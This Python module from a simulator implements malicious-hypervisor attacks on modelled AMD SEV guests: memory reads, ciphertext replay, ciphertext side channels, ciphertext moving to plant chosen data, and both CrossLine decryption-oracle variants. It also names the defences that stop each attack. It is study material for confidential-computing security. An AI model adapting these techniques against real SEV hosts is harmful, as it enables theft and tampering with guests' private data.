"""Attacks by a malicious hypervisor: it owns the host kernel, KVM, the NPT and the VMCBs,
and talks to the firmware through /dev/sev — but holds no guest key."""

from __future__ import annotations

import time

from sevsim.attacks.lab import (
    POLICY_DEBUG,
    POLICY_NODBG,
    SECRET_GPA,
    SECRET_MARKER,
    SECRET_SIZE,
    SYMBOLS,
    AttackResult,
    RawGuestMemory,
    attack,
    console_value,
    is_secret,
    published_digest,
    start_victim,
    vmrun,
)
from sevsim.guest import x86 as x86_guest
from sevsim.host.kvm import NPT_LEAF, KvmError
from sevsim.profiles import MachineProfile
from sevsim.soc.nested import EFER_SVME
from sevsim.soc.paging import CR0_PE, CR0_PG, CR4_PAE, EFER_LMA, EFER_LME, RW
from sevsim.soc.svm import (
    EXIT_NPF,
    NP_ENABLE,
    NPF_GUEST_PAGE_TABLE,
    SEV_ENABLE,
    TLB_CONTROL_FLUSH_ASID,
)
from sevsim.soc.tweak import TweakFunction, xe_constants
from sevsim.system import HostSystem


@attack(
    "host-read",
    "The hypervisor reads a guest's private memory",
    """The hypervisor maps all of a guest's memory and reads the page where the guest
    keeps its secret — a fixed address of its public firmware — through its own mapping
    (host key) and raw (no C-bit). Both give ciphertext under the guest's VEK. Then it
    asks the firmware: DBG_DECRYPT returns the plaintext of a guest whose owner allowed
    debugging, and POLICY_FAILURE for a guest with the NODBG policy bit. What it got is
    checked against the SHA-256 of the secret the guest printed.""",
    "SEV memory encryption (the VEK never leaves the memory controller) and the NODBG policy",
)
def host_read(profile: MachineProfile, r: AttackResult) -> None:
    with HostSystem.start(profile) as system:
        for name, policy in (("debuggable", POLICY_DEBUG), ("nodbg", POLICY_NODBG)):
            vm = start_victim(system, name, policy=policy)
            vm.run()
            digest = published_digest(vm)  # the guest printed it: anyone may check a guess
            system.kernel.wbinvd_on_all_cpus()  # no stale host-domain lines of the page
            mapped = vm.read(SECRET_GPA, SECRET_SIZE)
            raw = RawGuestMemory(system, vm, SECRET_GPA).read(0, SECRET_SIZE)
            r.step(
                f"{name} (policy {policy:#x}, ASID {vm.asid}): at GPA {SECRET_GPA:#x} the "
                f"hypervisor's mapping reads {mapped[:16].hex()}…, the raw C=0 mapping "
                f"{raw[:16].hex()}…"
            )
            try:
                plain = vm.sev_dbg_decrypt(SECRET_GPA, SECRET_SIZE)
                status = "SUCCESS"
            except KvmError as exc:
                plain, status = b"", exc.status.name if exc.status else str(exc)
            marker, rest = plain[: len(SECRET_MARKER)], plain[len(SECRET_MARKER) :]
            shown = f": {marker!r} + {rest.hex()}" if plain else ""
            r.step(f"{name}: DBG_DECRYPT → {status}{shown}")
            r.figures[name] = {
                "policy": policy,
                "mapping_reads_plaintext": is_secret(mapped, digest),
                "raw_reads_plaintext": is_secret(raw, digest),
                "dbg_decrypt": status,
                "secret_recovered": any(is_secret(got, digest) for got in (mapped, raw, plain)),
            }
            vm.destroy()
    # The goal: the secret of a guest that forbade debugging.
    r.succeeded = r.figures["nodbg"]["secret_recovered"]


@attack(
    "wrong-asid",
    "Security by crash: a guest run with another guest's ASID",
    """The hardware checks only that a VMCB's ASID is a valid SEV ASID, not whose it is.
    The hypervisor runs guest alpha (real x86 code) with beta's ASID: alpha's code, page
    tables and data are fetched with beta's key and decrypt to garbage; the CPU executes
    that garbage until an instruction faults, and cannot deliver the fault — the IDT is
    garbage too — so it triple-faults, #VMEXIT(SHUTDOWN). The attacker looks at everything
    the crash gives it — exit codes, registers, the console — for either guest's secret.""",
    "the wrong key makes the victim's code undecodable: it crashes before it can run "
    "(CrossLine shows what leaks before the crash; see the crossline attack)",
)
def wrong_asid(profile: MachineProfile, r: AttackResult) -> None:
    with HostSystem.start(profile) as system:
        alpha = start_victim(system, "alpha")
        beta = start_victim(system, "beta")
        for vm in (alpha, beta):
            vm.run()
        # The narrator's window (never the attacker's): each guest's own secret page.
        secrets = {
            vm.name: system.machine.guest_view(vm.vcpus[0].vmcb_addr, SECRET_GPA, SECRET_SIZE)
            for vm in (alpha, beta)
        }
        r.step(f"alpha has ASID {alpha.asid}, beta ASID {beta.asid}; both ran to completion")
        alpha.vcpus[0].asid, beta.vcpus[0].asid = beta.asid, alpha.asid
        for vm in (alpha, beta):
            vm.spin_budget = 20  # garbage may loop: the host's timer stops it
        exits = {vm.name: vm.vcpus[0].run() for vm in (alpha, beta)}
        leaked = False
        for vm in (alpha, beta):
            e = exits[vm.name]
            r.step(f"{vm.name} run with the other's ASID: {e.reason} ({e.detail})")
            seen = bytes(vm.console) + str(e.detail).encode()
            seen += b"".join(v.to_bytes(8, "little") for v in vm.vcpus[0].regs.values())
            leaked |= any(s[14:22] in seen or s[22:30] in seen for s in secrets.values())
        r.figures = {
            "exits": {name: e.reason for name, e in exits.items()},
            "crashed": all(
                e.reason in ("SHUTDOWN", "INTERNAL_ERROR", "STUCK") for e in exits.values()
            ),
            "secret_seen": leaked,
        }
        r.succeeded = leaked
        for vm in (alpha, beta):
            vm.destroy()


@attack(
    "replay",
    "Replaying a guest page's old ciphertext",
    """The guest keeps an account balance in private memory: 100, then 40 after a payment.
    The hypervisor cannot read it, but it can copy the page's ciphertext aside while the
    balance is 100 (a raw mapping without the C-bit) and write it back after the payment.
    The same key, address and plaintext give the same ciphertext and nothing checks
    freshness, so the guest decrypts the old block and reads 100 again.""",
    "none in SEV or SEV-ES (no integrity); SEV-SNP's RMP stops the host from writing "
    "guest-owned pages (not modelled)",
)
def replay(profile: MachineProfile, r: AttackResult) -> None:
    with HostSystem.start(profile) as system:
        vm = start_victim(system, "victim", "balance")
        vcpu = vm.vcpus[0]
        gpa = SYMBOLS["BALANCE_GPA"]
        raw = RawGuestMemory(system, vm, gpa)
        first = vcpu.run()  # balance 100 written; the guest yields (HLT)
        saved = raw.read(0, 16)
        r.step(f"after the first write the page holds {saved.hex()} (saved)")
        vcpu.run()  # balance 40 written
        after = raw.read(0, 16)
        r.step(f"after the payment it holds {after.hex()}")
        raw.write(0, saved)
        r.step("the hypervisor writes the saved ciphertext back")
        rest = vcpu.run()
        read = console_value(vm, "balance read back: ")
        r.step(f"the guest reads {read!r}")
        r.figures = {
            "exits": [first.reason, rest.reason],
            "ciphertext_changed_with_the_value": saved != after,
            "guest_read": read,
        }
        r.succeeded = read == "balance: 100 EUR"
        vm.destroy()


@attack(
    "ciphertext-side-channel",
    "Watching a private value's ciphertext (CipherLeaks)",
    """The guest walks the 16 bits of a random private key and stores each bit's branch
    flag in one private variable. The hypervisor reads only ciphertext, but the encryption
    is deterministic per address: equal plaintexts at one address give equal ciphertexts.
    Reading the variable at each HLT, it sorts the 16 ciphertexts into classes; two classes
    means two flag values, and the sequence of classes is the key — up to which class is
    0, one bit of guessing. Nothing is decrypted.""",
    "none in SEV or SEV-SNP as modelled; AMD's ciphertext hiding (SEV-SNP on Zen 5) denies "
    "the host reads of guest ciphertext, and constant-time code avoids secret-dependent "
    "stores (not modelled)",
)
def ciphertext_side_channel(profile: MachineProfile, r: AttackResult) -> None:
    with HostSystem.start(profile) as system:
        vm = start_victim(system, "victim", "flags")
        vcpu = vm.vcpus[0]
        gpa = SYMBOLS["FLAGS_GPA"]
        raw = RawGuestMemory(system, vm, gpa)
        seen: list[bytes] = []
        while len(seen) < 16 and vcpu.run().reason == "HLT":
            seen.append(raw.read(0, 16))
        vcpu.run()
        classes: dict[bytes, int] = {}
        bits = "".join(str(classes.setdefault(c, len(classes))) for c in seen)
        # The narrator's window (never the attacker's): the key the guest keeps.
        key = system.machine.guest_view(vm.vcpus[0].vmcb_addr, gpa + 0x100, 16).decode()
        inverse = bits.translate(str.maketrans("01", "10"))
        r.step(f"{len(seen)} ciphertexts of the flag, {len(classes)} distinct")
        r.step(f"classes in order: {bits} (or {inverse})")
        r.step(f"the guest's key:  {key}")
        r.figures = {
            "observations": len(seen),
            "distinct_ciphertexts": len(classes),
            "recovered": bits,
            "key": key,
            "bits_recovered": max(
                sum(a == b for a, b in zip(bits, key, strict=False)),
                sum(a == b for a, b in zip(inverse, key, strict=False)),
            ),
        }
        r.succeeded = key in (bits, inverse)
        vm.destroy()


CHOSEN = b"role: admin".ljust(16)  # the block the attacker wants in the guest


@attack(
    "cipher-move",
    "Moving ciphertext to plant chosen data (SEVurity)",
    """Each 16-byte block is encrypted on its own under the guest's key and its address's
    tweak T(pa); nothing binds a block to its place. The guest keeps a setting,
    'role: user', in private memory, and copies messages the host delivers in a shared
    page into a private buffer. With the xe engine (Zen 1: C = E(P ⊕ T(pa)), T fixed in
    the silicon and reverse-engineered), the hypervisor delivers P = X ⊕ T(a) ⊕ T(b): the
    guest encrypts it at a, and that ciphertext moved to the setting's address b decrypts
    to X. With xex (C = E(P ⊕ T) ⊕ T) the moved block must also be XORed with
    T(a) ⊕ T(b): possible where the tweak is fixed and was recovered once for the machine
    (Zen 1 parts in xex mode), not with tweaks drawn afresh at each boot (Zen 2 and
    later), where the same move gives garbage.""",
    "xex with per-boot random tweaks (Zen 2 and later) stops the move unless this boot's "
    "tweaks are recovered first; SEV-SNP's RMP stops the host writing guest pages at all "
    "(not modelled)",
)
def cipher_move(profile: MachineProfile, r: AttackResult) -> None:
    # What the attacker knows of the engine: the fixed tweak constants of its CPU model
    # where there are such (xe; xex on Zen 1, recovered once by search); otherwise it can
    # only assume those and fail.
    constants = xe_constants(profile.name, profile.maxphyaddr, profile.xe_zero_tweak_bits)
    tweak = TweakFunction(constants, profile.maxphyaddr)
    xex = profile.engine_mode == "xex"
    with HostSystem.start(profile) as system:
        vm = start_victim(system, "victim", "inbox")
        vcpu = vm.vcpus[0]
        buffer_gpa = SYMBOLS["INBOX_BUFFER_GPA"]  # known from the public firmware
        setting_gpa = SYMBOLS["SETTING_GPA"]
        vcpu.run()  # setting written, shared page announced; the guest waits for a message
        shared_gpa = vm.shared_ranges[-1][0]  # the guest told KVM (KVM_HC_MAP_GPA_RANGE)
        a, b = vm.spa(buffer_gpa), vm.spa(setting_gpa)
        delta = (tweak.block_int(a) ^ tweak.block_int(b)).to_bytes(16, "little")
        message = _xor(CHOSEN, delta)
        vm.write(shared_gpa, message.ljust(64, b"\0"))
        r.step(
            f"delivers a message whose first block is X ⊕ T({a:#x}) ⊕ T({b:#x}) = {message.hex()}"
        )
        vcpu.run()  # the guest copied it into its private buffer
        raw_buffer = RawGuestMemory(system, vm, buffer_gpa)
        raw_setting = RawGuestMemory(system, vm, setting_gpa)
        moved = raw_buffer.read(0, 16)
        before = raw_setting.read(0, 16)
        if xex:  # C = E(P ⊕ T) ⊕ T: swap the outer tweak too
            moved = _xor(moved, delta)
        raw_setting.write(0, moved)
        how = "XORed with T(a) ⊕ T(b) and " if xex else ""
        r.step(f"{how}moves the ciphertext from {a:#x} over the setting at {b:#x}: {moved.hex()}")
        vcpu.run()
        # The narrator's window: the 16 bytes the guest reads (it prints them too).
        read = system.machine.guest_view(vm.vcpus[0].vmcb_addr, setting_gpa, 16)
        r.step(
            f"the guest reads its setting: {read!r} (it prints {console_value(vm, 'setting: ')!r})"
        )
        r.figures = {
            "engine": profile.engine_mode,
            "tweak": "per boot" if xex and not profile.xex_fixed_tweak else "fixed",
            "chosen": CHOSEN.decode().strip(),
            "guest_read": read.hex(),
            "planted": read == CHOSEN,
            "setting_ciphertext_changed": before != moved,
        }
        r.succeeded = read == CHOSEN
        vm.destroy()


def _xor(x: bytes, y: bytes) -> bytes:
    return bytes(p ^ q for p, q in zip(x, y, strict=True))


CODE64_ATTRIB, DATA_ATTRIB = 0xA9B, 0xC93  # VMCB segment attributes: 64-bit code, flat data
ATTACKER_CR3_GPA = 0x7FFF_F000  # far above the victim's memory: never a leaked GPA
PAGE = 4096


@attack(
    "crossline",
    "CrossLine variant 1: the page-table walk as a decryption oracle",
    """The hypervisor builds a VMCB of its own with the victim's ASID and SEV enabled. In
    that VM's nested page table only one page is mapped: the GPA of its CR3, pointing at a
    victim page. It sets RIP so that the PML4 index picks one 8-byte slot and runs it. The
    instruction fetch starts a page walk — always private, so the slot is decrypted with
    the victim's key — and if the 8 bytes look like a present entry, the walk goes on to
    the GPA they name, which is not mapped: #VMEXIT(NPF) with that GPA in EXITINFO2. One
    VMRUN per slot; otherwise the VM faults and shuts down. Starting from the victim's CR3
    (in its VMCB: SEV does not encrypt the save area) and following every leaked table
    address, it dumps the victim's page tables and any other PTE-shaped data.""",
    "SEV-ES hides the victim's CR3 and RIP (variant 1 still works through the victim's "
    "VMSA); SEV-SNP's RMP check of ASID and GPA on every access stops it (not modelled)",
)
def crossline(profile: MachineProfile, r: AttackResult) -> None:
    with HostSystem.start(profile) as system:
        # Debuggable, so that the narrator can read (DBG_DECRYPT) the real tables to judge by.
        victim = start_victim(system, "victim", policy=POLICY_DEBUG)
        victim.run()
        victim_cr3 = victim.vcpus[0].vmcb().cr3
        attacker = system.kvm.create_vm(PAGE * 1024, sev=False, name="attacker")
        vcpu = attacker.vcpus[0]
        core = system.kvm.cpu(vcpu.core_index)
        encrypted = system.kernel.sme_active
        r.step(
            f"the victim's CR3 (from its VMCB) is {victim_cr3:#x}; the attacker's VMCB gets "
            f"the victim's ASID {victim.asid} and CR3 = GPA {ATTACKER_CR3_GPA:#x}"
        )
        address_mask = ((1 << profile.maxphyaddr) - 1) & ~(PAGE - 1) & ~system.machine.cbit_mask
        leaks: dict[int, dict[int, int]] = {}
        queue = [victim_cr3 & address_mask]
        vmruns = 0
        start = time.perf_counter()
        while queue and len(leaks) < MAX_PAGES:
            gpa = queue.pop(0)
            if gpa in leaks or gpa >= victim.memory_size:
                continue
            attacker.npt.map(ATTACKER_CR3_GPA, victim.spa(gpa), PAGE, NPT_LEAF, encrypted)
            leaks[gpa] = {}
            for slot in range(512):
                vmruns += 1
                leaked = _probe(core, vcpu, victim.asid, slot)
                if leaked is not None:
                    leaks[gpa][slot] = leaked
                    queue.append(leaked)
        elapsed = time.perf_counter() - start
        truth = {gpa: victim.sev_dbg_decrypt(gpa, PAGE) for gpa in _table_pages()}
        right = wrong = missed = large = data_leaks = 0
        for gpa, slots in leaks.items():
            page = truth.get(gpa)
            if page is None:  # not a page table: PTE-shaped data, leaked all the same
                data_leaks += len(slots)
                continue
            for slot in range(512):
                entry = int.from_bytes(page[slot * 8 : slot * 8 + 8], "little")
                if slot in slots:
                    right += entry & address_mask == slots[slot]
                    wrong += entry & address_mask != slots[slot]
                elif entry & 1 and entry & (1 << 7):
                    large += 1  # a 2 MiB leaf: PS is reserved in a PML4E, so it faults
                elif entry & 1:
                    missed += 1
        for gpa, slots in leaks.items():
            kind = "page table" if gpa in truth else "data"
            shown = ", ".join(f"[{s}]→{v:#x}" for s, v in list(slots.items())[:3])
            more = f" (+{len(slots) - 3} more)" if len(slots) > 3 else ""
            r.step(f"{kind} page at GPA {gpa:#x}: {len(slots)} entries leaked {shown}{more}")
        total = sum(len(s) for s in leaks.values())
        bits = profile.maxphyaddr - 12 - (1 if profile.cbit < profile.maxphyaddr else 0)
        r.figures = {
            "pages_dumped": len(leaks),
            "table_pages_dumped": sum(gpa in truth for gpa in leaks),
            "vmruns": vmruns,
            "entries_leaked": total,
            "table_entries_matching": right,
            "table_entries_wrong": wrong,
            "table_entries_missed": missed,
            "large_page_entries_not_leakable": large,
            "data_entries_leaked": data_leaks,
            "address_bits_per_entry": bits,
            "bytes_recovered_per_page": round(total * bits / 8 / max(1, len(leaks)), 1),
            "model_ms_per_page": round(elapsed * 1000 / max(1, len(leaks)), 1),
        }
        r.succeeded = right > 0 and wrong == 0
        attacker.destroy()
        victim.destroy()


MAX_PAGES = 16


def _table_pages() -> list[int]:
    """The real-code guest's page-table pages (README.md's memory map): PML4, PDPT, the four
    page directories, and the 4 KiB table of the 2 MiB page its first shared page splits."""
    pds = range(SYMBOLS["PD_GPA"], SYMBOLS["PD_GPA"] + 4 * PAGE, PAGE)
    return [SYMBOLS["PML4_GPA"], SYMBOLS["PDPT_GPA"], *pds, SYMBOLS["SPLIT_PT_GPA"]]


def _probe(core, vcpu, asid: int, slot: int) -> int | None:
    """One VMRUN of the attacker VMCB with RIP picking PML4 slot ``slot``: the GPA the
    victim's decrypted entry names, or None when the VM shut down instead."""
    rip = slot << 39
    if slot >= 256:  # canonical: bits 63:48 copy bit 47
        rip |= 0xFFFF_0000_0000_0000
    vcpu.set_vmcb(
        cs_selector=0x18,  # a 64-bit code segment: RIP is the linear address the walk uses
        cs_base=0,
        cs_limit=0xFFFF_FFFF,
        cs_attrib=CODE64_ATTRIB,
        idtr_base=0,  # no IDT: a #PF (a non-present entry) is a shutdown, not a walk of its
        idtr_limit=0,  # gate at a linear address, which would leak entry 0 every time
        asid=asid,
        nested_ctl=NP_ENABLE | SEV_ENABLE,
        tlb_control=TLB_CONTROL_FLUSH_ASID,
        cr0=CR0_PE | CR0_PG,
        cr3=ATTACKER_CR3_GPA,
        cr4=CR4_PAE,
        efer=EFER_LME | EFER_LMA | EFER_SVME,
        rip=rip,
        event_inj=0,
    )
    exit_ = core.vmrun(vcpu.vmcb_addr, {})
    if exit_.code == EXIT_NPF and exit_.info1 & NPF_GUEST_PAGE_TABLE:
        return exit_.info2 & ~(PAGE - 1)
    return None


# ---- CrossLine variant 2: the victim's own instructions as a decryption oracle ------------


@attack(
    "crossline-exec",
    "CrossLine variant 2: the victim's instructions, run by another VM, decrypt for it",
    """The victim is a real-code SEV guest. The hypervisor builds a VM of its own with the
    victim's ASID and maps into its nested page table just what one instruction needs: the
    victim's page-table pages, the code page holding a load instruction it knows from the
    victim's (public, measured) firmware — `mov (%rdi,%rcx,8),%r8` in a copy loop — and,
    read-only, the victim page it wants to read. It points RIP at the load, RDI at the page,
    and runs. The fetch and the walk decrypt with the victim's key, so the CPU executes the
    victim's real code: the load decrypts 8 bytes of the victim's page into R8, the next
    instructions add them to RAX, and the store after them faults on the read-only page:
    #VMEXIT(NPF). SEV does not protect the register state, so RAX is the plaintext. One
    VMRUN per 8 bytes, then the victim's secret is the hypervisor's.""",
    "SEV-ES: the registers live in the encrypted VMSA, so nothing is read after the exit "
    "(the variant fails); SEV-SNP's RMP check of ASID and GPA stops the accesses (not "
    "modelled)",
)
def crossline_exec(profile: MachineProfile, r: AttackResult) -> None:
    from sevsim.soc.x86.decode import decode, disassemble

    image = x86_guest.image()
    base = (1 << 32) - len(image)
    # The attacker reads the public firmware: the first 8-byte load in mem_loop's copy loop.
    code = image[SYMBOLS["mem_loop"] - base :]
    gadget = next(
        ip
        for ip, raw, text in disassemble(code, SYMBOLS["mem_loop"], 64, 40)
        if text.startswith("mov (%rdi,%rcx,8),%r8")
    )
    listing = [text for _, _, text in disassemble(image[gadget - base :], gadget, 64, 4)]
    with HostSystem.start(profile) as system:
        victim = start_victim(system, "victim")
        victim.run()
        target = SECRET_GPA
        digest = published_digest(victim)  # what the victim printed: the judge's evidence
        v = victim.vcpus[0].vmcb()
        r.step(
            f"the victim (ASID {victim.asid}) has booted; its CR3 is {v.cr3:#x} (in the clear "
            f"in its VMCB); the gadget is at {gadget:#x}: " + "; ".join(listing[:3])
        )
        attacker = system.kvm.create_vm(PAGE * 1024, sev=False, name="attacker")
        encrypted = system.kernel.sme_active
        tables = _table_pages()
        for gpa in [*tables, gadget & ~(PAGE - 1)]:
            attacker.npt.map(gpa, victim.spa(gpa), PAGE, NPT_LEAF, encrypted)
        read_only = NPT_LEAF & ~RW
        attacker.npt.map(target, victim.spa(target), PAGE, read_only, encrypted)
        r.step(
            f"the attacker's NPT maps the victim's {len(tables)} page-table pages, the "
            f"gadget's code page and, read-only, the victim page at GPA {target:#x}"
        )
        vcpu = attacker.vcpus[0]
        core = system.kvm.cpu(vcpu.core_index)
        segs = {f"{s}_{f}": 0 for s in ("ds", "es", "fs", "gs", "ss") for f in ("selector", "base")}
        leaked = b""
        exits = []
        for index in range(6):
            vcpu.set_vmcb(
                **segs,
                cs_selector=0x18,
                cs_base=0,
                cs_limit=0xFFFF_FFFF,
                cs_attrib=CODE64_ATTRIB,
                ss_attrib=DATA_ATTRIB,
                ds_attrib=DATA_ATTRIB,
                es_attrib=DATA_ATTRIB,
                asid=victim.asid,
                nested_ctl=NP_ENABLE | SEV_ENABLE,
                tlb_control=TLB_CONTROL_FLUSH_ASID,
                cr0=CR0_PE | CR0_PG,
                cr3=v.cr3,
                cr4=CR4_PAE,
                efer=EFER_LME | EFER_LMA | EFER_SVME,
                rip=gadget,
                rax=0,
                rflags=2,
                event_inj=0,
            )
            regs = {"rdi": target, "rcx": index}
            exit_ = vmrun(core, vcpu, regs)
            exits.append(exit_.name)
            after = vcpu.vmcb()
            if exit_.code != EXIT_NPF:
                r.step(f"VMRUN {index}: {exit_.name} — {exit_.detail}")
                break
            word = after.rax.to_bytes(8, "little")
            leaked += word
            stopped = decode(image[after.rip - base : after.rip - base + 15], after.rip, 64)
            r.step(
                f"VMRUN {index}: #NPF (write to GPA {exit_.info2:#x}) at {after.rip:#x} "
                f"({stopped}); RAX = {after.rax:#018x} → {word!r}"
            )
        r.figures = {
            "vmruns": len(exits),
            "exits": exits,
            "gadget": f"{gadget:#x}",
            "bytes_recovered": len(leaked),
            "marker_recovered": leaked.startswith(SECRET_MARKER),
            "secret_recovered": is_secret(leaked, digest),
        }
        r.succeeded = is_secret(leaked, digest)
        attacker.destroy()
        victim.destroy()
